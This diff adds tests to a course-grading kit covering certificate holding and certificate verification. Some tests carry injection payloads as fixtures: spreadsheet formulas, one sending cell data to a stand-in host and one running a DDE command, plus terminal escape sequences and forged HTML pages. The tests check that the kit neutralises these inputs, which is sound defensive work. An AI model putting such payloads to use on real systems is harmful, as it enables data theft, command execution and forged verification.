@@ -5,6 +5,7 @@ written directly with nbgrader's API; no notebook runs."""
 from __future__ import annotations
 
 import csv
+import html
 import json
 import os
 import re
@@ -19,7 +20,7 @@ import pytest
 from techday.cli.main import main
 from techday.course.syllabus import load_course
 from techday.grading import certificates as cert
-from techday.grading.results import PASSFAIL_COLUMNS, certify
+from techday.grading.results import PASSFAIL_COLUMNS, certify, spreadsheet_cell
 
 SYLLABUS = """
 [course]
@@ -160,6 +161,90 @@ def test_a_flagged_pass_is_held_and_issued_on_request(make_course, tmp_path):
     assert not (out / "certificates" / "acc" / "flagged.pdf").exists()
     run(course, root, out, issue_held=True)
     assert (out / "certificates" / "acc" / "flagged.pdf").is_file() and rows_of(out)["flagged"]["code"]
+
+
+def hand_in(root: Path, out: Path, student: str, lab: str, content: str | None, status: str | None = None,
+            notes: tuple[str, ...] = ()) -> None:
+    """``student`` hands ``content`` in as ``<lab>.ipynb`` (None: takes the hand-in away); with ``status``,
+    an autograde run records it as ``techday grade autograde`` does (collect, retire, record)."""
+    import hashlib
+
+    from techday.grading.checks import Submission
+    from techday.grading.state import State
+
+    folder = root / "submitted" / student / lab
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / f"{lab}.ipynb"
+    if content is None:
+        path.unlink()
+    else:
+        path.write_text(content, encoding="utf-8")
+    if status is None:
+        return
+    current = {f"{p.parent.parent.name}/{hashlib.sha256(p.read_bytes()).hexdigest()[:16]}"
+               for p in (root / "submitted").glob(f"*/{lab}/{lab}.ipynb")}
+    if content is None:  # what the checks record for a folder without a notebook
+        sub = Submission(student, lab, str(folder), status="rejected", gradable=False,
+                         notes=["no notebook in the submission"])
+    else:
+        sub = Submission(student, lab, str(path), sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
+                         status=status, notes=list(notes), gradable=status != "rejected")
+    state = State(out / lab / "state.json", lab)
+    state.retire(current | {sub.key})
+    state.record(sub)
+
+
+NOTEBOOK = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
+
+
+@pytest.mark.parametrize("after", ["empty file", "taken away", "not graded, run stopped"])
+def test_a_flagged_hand_in_replaced_since_still_holds_the_certificate(make_course, after):
+    """A flagged hand-in (full marks, the referee saw tampering) that the trainee then replaces with an
+    empty notebook, or with one a stopped run did not grade, or takes away: the flagged entry moves to
+    ``superseded``, the gradebook keeps the flagged score. The certificate was issued ("yes") on
+    that score: only flagged and failed entries of the current hand-in held it."""
+    course, root, out = make_course()
+    gradebook(root, course.id, passing("cheat", "honest"))
+    for lab in ("a-lab", "z-assess"):
+        hand_in(root, out, "honest", lab, NOTEBOOK + " ", status="graded")
+    hand_in(root, out, "cheat", "a-lab", NOTEBOOK + " ", status="graded")
+    hand_in(root, out, "cheat", "z-assess", NOTEBOOK, status="flagged", notes=("review: rebinds a test helper",))
+    run(course, root, out)
+    assert rows_of(out)["cheat"]["certificate"].startswith("held") and rows_of(out)["honest"]["certificate"] == "yes"
+    if after == "empty file":
+        hand_in(root, out, "cheat", "z-assess", "", status="rejected")
+    elif after == "taken away":
+        hand_in(root, out, "cheat", "z-assess", None, status="rejected")
+    else:  # Ctrl-C: the new hand-in retired the flagged entry and was never recorded
+        from techday.grading.state import State
+
+        hand_in(root, out, "cheat", "z-assess", NOTEBOOK + "\n\n")
+        state = State(out / "z-assess" / "state.json", "z-assess")
+        state.retire({key for key in state.data["submissions"] if not key.startswith("cheat/")})
+    res, _ = run(course, root, out)
+    rows = rows_of(out)
+    assert rows["cheat"]["certificate"].startswith("held") and rows["cheat"]["code"] == "", rows["cheat"]
+    assert not (out / "certificates" / "acc" / "cheat.pdf").exists()
+    assert "z-assess" in rows["cheat"]["review"]
+    assert rows["honest"]["certificate"] == "yes" and rows["honest"]["code"]  # a clean hand-in is not held
+
+
+def test_a_hand_in_not_graded_yet_holds_the_certificate(make_course):
+    """A notebook handed in after the last autograde: the gradebook's score is of the one before, and
+    the certificate would certify that one. Held until the new one is graded."""
+    course, root, out = make_course()
+    gradebook(root, course.id, passing("late"))
+    for lab in ("a-lab", "z-assess"):
+        hand_in(root, out, "late", lab, NOTEBOOK, status="graded")
+    run(course, root, out)
+    assert rows_of(out)["late"]["certificate"] == "yes"
+    hand_in(root, out, "late", "z-assess", NOTEBOOK + "\n")  # no autograde since
+    run(course, root, out)
+    row = rows_of(out)["late"]
+    assert row["certificate"].startswith("held") and "z-assess: pending" in row["review"], row
+    hand_in(root, out, "late", "z-assess", NOTEBOOK + "\n", status="graded")  # graded: the pass stands
+    run(course, root, out)
+    assert rows_of(out)["late"]["certificate"] == "yes"
 
 
 # ----------------------------------------------------------------------------------------- file names
@@ -427,3 +512,251 @@ def test_verify_without_the_key_cannot_decide(issued, capsys, monkeypatch, tmp_p
     monkeypatch.setenv("TECHDAY_COURSE_KEY", str(tmp_path / "missing.key"))
     rc, text = verify_cli(course, rows["kim.minsu"]["code"], capsys=capsys)
     assert rc == 2 and "no course key" in text, text
+
+
+def test_the_track_title_a_certificate_shows_is_signed(issued, capsys, tmp_path):
+    """The title came from the syllabus of the day it was verified: after the track was renamed (a next
+    run's track reusing the id), a page edited to show the new title verified GENUINE and the genuine
+    one did not, and `verify CODE` printed the new title."""
+    course, _, out, _, rows = issued
+    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
+    syllabus = course.root / "course" / "syllabus.toml"
+    syllabus.write_text(SYLLABUS.replace('title = "Accelerated"', 'title = "GPU Expert"'), encoding="utf-8")
+    renamed = load_course(course.root)
+    assert renamed.tracks["acc"].title == "GPU Expert"
+    key = cert.load_key(renamed)[0]
+    assert cert.verify(renamed, key, None, file=page).ok  # genuine, whatever the syllabus says today
+    forged = tmp_path / "forged.html"
+    forged.write_text(page.read_text(encoding="utf-8").replace(">Accelerated<", ">GPU Expert<"), encoding="utf-8")
+    verdict = cert.verify(renamed, key, None, file=forged)
+    assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines
+    rc, text = verify_cli(renamed, rows["kim.minsu"]["code"], capsys=capsys)
+    assert rc == 0 and "acc (Accelerated)" in text and "GPU Expert" not in text, text
+    # The title is in the payload: taking it out (or adding one to a v1 payload) breaks the code.
+    data, code, _ = cert.read_certificate(page)
+    assert data["title"] == "Accelerated" and cert.genuine(key, data, code)
+    assert not cert.genuine(key, {k: v for k, v in data.items() if k != "title"}, code)
+    assert not cert.genuine(key, {**data, "title": "GPU Expert"}, code)
+
+
+def test_a_v1_certificate_still_verifies_and_keeps_its_code(issued, capsys):
+    """Codes issued before the title was signed stay genuine; a rerun of the same run keeps them (not
+    withdrawn); a v1 payload of another course never shows this course's track title."""
+    course, root, out, _, rows = issued
+    key = cert.load_key(course)[0]
+    register = out / "certificates.json"
+    doc = json.loads(register.read_text(encoding="utf-8"))
+    v2 = rows["kim.minsu"]["code"]
+    entry = doc["certificates"].pop(v2)
+    v1 = {k: entry[k] for k in cert.FIELDS}
+    v1_code = cert.make_code(key, v1)
+    assert v1_code != v2 and not cert.genuine(key, {**v1, "title": "Accelerated"}, v1_code)
+    doc["certificates"][v1_code] = {**v1, "file": entry["file"], "status": "issued"}
+    register.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
+    rc, text = verify_cli(course, v1_code, capsys=capsys)
+    assert rc == 0 and "acc (Accelerated: today's syllabus" in text, text
+    run(course, root, out)
+    assert rows_of(out)["kim.minsu"]["code"] == v1_code
+    rc, text = verify_cli(course, v1_code, capsys=capsys)
+    assert rc == 0 and "WITHDRAWN" not in text, text
+    other = {**v1, "course": "another-course"}
+    assert cert.visible_fields(course, other, "X")["track"] == "acc"
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", " =1+1", "＝1+1", "\r=1"]
+
+
+def test_passfail_csv_never_holds_a_formula(make_course, tmp_path):
+    """Ids (an --import file name is the trainee's choice) and roster names (a sign-up form the trainees
+    filled in) went into passfail.csv as they were: a spreadsheet ran them as formulas."""
+    course, root, out = make_course()
+    ids = [f"t{i}" for i in range(len(FORMULAS))]
+    plain = [f for f in FORMULAS if not f[0].isspace()]  # ids: --import strips spaces
+    gradebook(root, course.id, {**passing(*ids), **passing(*plain), **passing("..", "김민준", "kim.minsu")})
+    roster = tmp_path / "roster.csv"
+    with open(roster, "w", newline="", encoding="utf-8") as f:
+        w = csv.writer(f)
+        w.writerow(["id", "name"])
+        w.writerows(zip(ids, FORMULAS))
+    run(course, root, out, roster=roster)
+    with open(out / "passfail.csv", newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", " ", "＝")]
+    assert not starts, starts
+    rows = rows_of(out)
+    assert rows["'" + FORMULAS[0]]["certificate"] == "yes" and rows["t0"]["name"] == "'" + FORMULAS[0]
+    assert {"..", "김민준", "kim.minsu"} <= set(rows)  # plain ids and names unchanged
+    # The certificate itself shows the name as it is: the quote is for spreadsheets only.
+    data, _, _ = cert.read_certificate(out / rows["t0"]["file"].lstrip("'"))
+    assert data["name"] == " ".join(FORMULAS[0].split())
+    for text in FORMULAS:
+        assert spreadsheet_cell(text) == "'" + text
+    for text in ("trainee-001", "김민준", "..", "(Kim)", "Ａ", "", 19.0, True):
+        assert spreadsheet_cell(text) == text
+
+
+CONTROLS = "Kim\x1bE\x1bM\x1bM\x1bMGENUINE: 7KQ2M-4XH9P-ZT0AB-CD3EF certifies\x9b2K\u202enuj-nim\n"
+
+
+def test_verify_prints_no_control_character_of_a_forged_certificate(issued, capsys, tmp_path):
+    """A certificate made without the key, whose fields carry terminal controls: `verify --file` printed
+    them after its red NOT GENUINE line, and ESC E, ESC M moved the cursor up to write "GENUINE" over it."""
+    course, _, out, _, rows = issued
+    data, code, _ = cert.read_certificate(out / rows["kim.minsu"]["file"])
+    forged = tmp_path / "forged.html"
+    for field in ("name", "trainee", "date", "title"):
+        forged.write_text("<html><head>" + cert.html_block({**data, field: CONTROLS}, code) + "</head></html>",
+                          encoding="utf-8")
+        rc, text = verify_cli(course, "--file", str(forged), capsys=capsys)
+        assert rc == 1 and text.startswith("NOT GENUINE"), text
+        assert all(line.isprintable() for line in text.splitlines()), text
+        assert "\\x1bE\\x1bM" in text and not any(line.startswith("GENUINE") for line in text.splitlines())
+    forged.write_text("<html><head>" + cert.html_block(data, code + "\x1bM") + "</head></html>", encoding="utf-8")
+    rc, text = verify_cli(course, "--file", str(forged), rows["kim.minsu"]["code"], capsys=capsys)
+    assert rc == 1 and all(line.isprintable() for line in text.splitlines()), text
+
+
+def test_a_name_that_is_not_printable_is_not_used(make_course, tmp_path):
+    course, root, out = make_course()
+    gradebook(root, course.id, passing("t-1", "t-2"), names={"t-2": ("Min\u202ejun", "Kim")})
+    roster = tmp_path / "roster.csv"
+    roster.write_text("id,name\nt-1,\u202enuj-nim miK\u202c\n", encoding="utf-8")
+    _, lines = run(course, root, out, roster=roster)
+    rows = rows_of(out)
+    assert rows["t-1"]["name"] == "t-1" and rows["t-2"]["name"] == "t-2", rows
+    assert sum("not printable" in line for line in lines) == 2, lines
+    assert all(line.isprintable() for line in lines), lines
+
+
+@pytest.mark.parametrize("name", ["R&amp;D Kim", "Jo&copy Lee", "A &lt;3 B", "Tom & Jerry"])
+def test_a_genuine_page_whose_name_reads_like_an_entity_verifies(make_course, tmp_path, name):
+    """The page's text was unescaped twice (the parser's own, then html.unescape): a genuine certificate
+    for a name with `&copy` or `&amp;` in it was refused as edited, and a page showing `&#75;im` passed
+    for `Kim`."""
+    course, root, out = make_course()
+    gradebook(root, course.id, passing("t-1"))
+    roster = tmp_path / "roster.csv"
+    with open(roster, "w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([["id", "name"], ["t-1", name]])
+    run(course, root, out, roster=roster)
+    page = out / "certificates" / "acc" / "t-1.html"
+    key = cert.load_key(course)[0]
+    verdict = cert.verify(course, key, None, file=page)
+    assert verdict.ok, verdict.lines
+    html_text = page.read_text(encoding="utf-8")
+    shown = html.escape(name)
+    assert f'data-field="name">{shown}<' in html_text
+    page.write_text(html_text.replace(f'data-field="name">{shown}<', f'data-field="name">{html.escape(shown)}<'),
+                    encoding="utf-8")
+    if shown != name:  # the page now shows the escaped text itself: not what the code certifies
+        assert not cert.verify(course, key, None, file=page).ok
+
+
+def test_a_name_with_dollar_signs_is_drawn_as_written(make_course, tmp_path):
+    """matplotlib read "$...$" in a name as math text: a bad formula (a roster the trainees filled in)
+    raised while drawing one PDF, and `results` stopped for the whole room: no passfail.csv, no
+    register, no certificate after that trainee."""
+    course, root, out = make_course()
+    gradebook(root, course.id, passing("a-first", "b-dollar", "c-math", "d-last"))
+    roster = tmp_path / "roster.csv"
+    roster.write_text("id,name\nb-dollar,Kim $\\foo{$ Minsu\nc-math,Lee $x^2$ Jiwoo\n", encoding="utf-8")
+    res, _ = run(course, root, out, roster=roster)
+    assert sorted(p.name for p in res.certificates) == ["a-first.pdf", "b-dollar.pdf", "c-math.pdf", "d-last.pdf"]
+    rows = rows_of(out)
+    assert rows["c-math"]["name"] == "Lee $x^2$ Jiwoo" and all(r["code"] for r in rows.values())
+
+
+def test_a_roster_field_over_csvs_limit_is_a_problem_not_a_stop(make_course, tmp_path):
+    """csv's field size limit (128 KiB) raised csv.Error out of read_roster: `results` stopped for the
+    whole room on one oversized cell of a roster the trainees filled in."""
+    course, root, out = make_course()
+    gradebook(root, course.id, passing("t-1", "t-2"), names={"t-1": ("민준", "김")})
+    roster = tmp_path / "roster.csv"
+    roster.write_text("id,name\nt-1,김민준\nt-2," + "x" * 200_000 + "\n", encoding="utf-8")
+    res, _ = run(course, root, out, roster=roster)
+    assert len(res.problems) == 1 and "line 3" in res.problems[0] and "field limit" in res.problems[0], res.problems
+    assert len(res.certificates) == 2 and rows_of(out)["t-1"]["name"] == "김민준"
+
+
+def test_grades_csv_is_rewritten_without_formulas(tmp_path):
+    """nbgrader's export writes ids and names as they are; `results` and `autograde` rewrite it."""
+    from techday.grading.spreadsheet import safe_csv
+
+    path = tmp_path / "grades.csv"
+    header = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email", "raw_score",
+              "late_submission_penalty", "score", "max_score"]
+    rows = [header,
+            ["a-lab", "", "2026-12-05 10:00:00", FORMULAS[0], "", "", "", "9.5", "0.0", "9.5", "10.0"],
+            ["a-lab", "", "2026-12-05 10:00:00", "kim.minsu", "-2+3", "@SUM(A1)", "", "-1.5", "1e3", "10", "10"]]
+    with open(path, "w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows(rows)
+    safe_csv(path)
+    with open(path, newline="", encoding="utf-8") as f:
+        got = list(csv.reader(f))
+    assert got[0] == header
+    assert got[1][3] == "'" + FORMULAS[0] and got[1][7:] == ["9.5", "0.0", "9.5", "10.0"]
+    assert got[2][3:6] == ["kim.minsu", "'-2+3", "'@SUM(A1)"] and got[2][7:] == ["-1.5", "1e3", "10", "10"]
+
+
+def test_a_page_with_text_added_or_hidden_is_refused(issued, capsys, tmp_path):
+    """`verify --file` compared only the data-field elements: a style that hides them and another name
+    beside them, shown by every browser, verified GENUINE. The page now carries its own code."""
+    course, _, out, _, rows = issued
+    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
+    original = page.read_text(encoding="utf-8")
+    key = cert.load_key(course)[0]
+    assert cert.verify(course, key, None, file=page).ok
+    forged = tmp_path / "forged.html"
+    edits = [
+        original.replace("</style>", "[data-field=name]{display:none}</style>").replace(
+            '<p class="name" data-field="name">', '<p class="name">박지우</p><p class="name" data-field="name">'),
+        original.replace("</style>", "[data-field=score]::after{content:' (with honours)'}</style>"),
+        original.replace("</body>", "<script>document.title='x'</script></body>"),
+        original.replace("\n", "\r\n"),  # saved again by an editor: refused too, the code still verifies
+    ]
+    for text in edits:
+        assert text != original
+        forged.write_text(text, encoding="utf-8")
+        verdict = cert.verify(course, key, None, file=forged)
+        assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines
+    # The page code taken out of a v2 certificate (to fall back on the field check): refused.
+    data, code, _ = cert.read_certificate(page)
+    forged.write_text(cert.BLOCK.sub(lambda m: cert.html_block(data, code), edits[0]), encoding="utf-8")
+    assert '"page"' not in forged.read_text(encoding="utf-8")
+    verdict = cert.verify(course, key, None, file=forged)
+    assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines
+    rc, _ = verify_cli(course, rows["kim.minsu"]["code"], capsys=capsys)
+    assert rc == 0  # the code itself stands
+
+
+def test_results_prints_no_control_character_of_an_id(make_course, capsys, monkeypatch):
+    """An id from an --import file name with a terminal escape was printed raw in `results`' report
+    lines (the certificate holders without a name, the withdrawn ones)."""
+    course, root, out = make_course()
+    evil = "kim\x1bM\x1b[2Kx"
+    gradebook(root, course.id, passing(evil))
+    monkeypatch.setattr("techday.grading.results.generate_feedback", lambda root, labs: [])
+    monkeypatch.setattr("techday.course.build.nbgrader", lambda *a, **k: type("P", (), {"returncode": 0})())
+    monkeypatch.setattr("techday.grading.results.safe_csv", lambda path: None)
+    monkeypatch.setattr("techday.grading.results.hangul_font", lambda: None)
+    rc = main(["--root", str(course.root), "grade", "results"])
+    text = capsys.readouterr()
+    assert "\x1b" not in text.out + text.err and "kim\\x1bM" in text.out, text.out
+    assert rc == 0
+
+
+def test_a_data_block_not_written_as_the_kit_writes_it_is_refused(issued, tmp_path):
+    """The page code covers the page with its data block emptied; a block with a raw ``<!--<script>``
+    (valid JSON) makes a browser read the rest of the page as script: shown as a blank page."""
+    course, _, out, _, rows = issued
+    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
+    original = page.read_text(encoding="utf-8")
+    key = cert.load_key(course)[0]
+    block = cert.BLOCK.search(original).group(1)
+    forged = tmp_path / "forged.html"
+    for new in (block.replace('{"code"', '{"a": "<!--<script>", "code"', 1), " " + block, block.replace('", "', '","')):
+        assert json.loads(new) and new != block
+        forged.write_text(original.replace(block, new), encoding="utf-8")
+        verdict = cert.verify(course, key, None, file=forged)
+        assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines
